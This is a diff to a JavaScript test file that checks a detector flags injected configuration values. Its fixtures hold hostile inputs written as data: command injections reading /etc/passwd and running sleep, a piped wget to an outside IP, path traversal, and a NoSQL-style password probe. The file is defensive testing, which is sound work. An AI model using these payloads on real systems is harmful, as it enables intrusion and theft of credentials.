@@ -82,6 +82,8 @@ test.each([
   'PORT=80\nNAME=a;cat /etc/passwd\nLEVEL=2\nNODE=3',
   'BEGIN:VEVENT\nSUMMARY:Meeting\nDESCRIPTION:|wget http://203.0.113.9/a\nEND:VEVENT',
   'file = ../../../../etc/passwd\nport = 80',
+  "host = db1\nname = ' ; /bin/sleep 31 ;\nport = 80",
+  "host = db1\nname = ' && this.password.match(/.*/)//\nport = 80",
 ])('a setting whose value breaks out or climbs excuses nothing: %j', (text) => {
   expect(report({ value: text, other: 'x' }).matches).not.toEqual([]);
 });
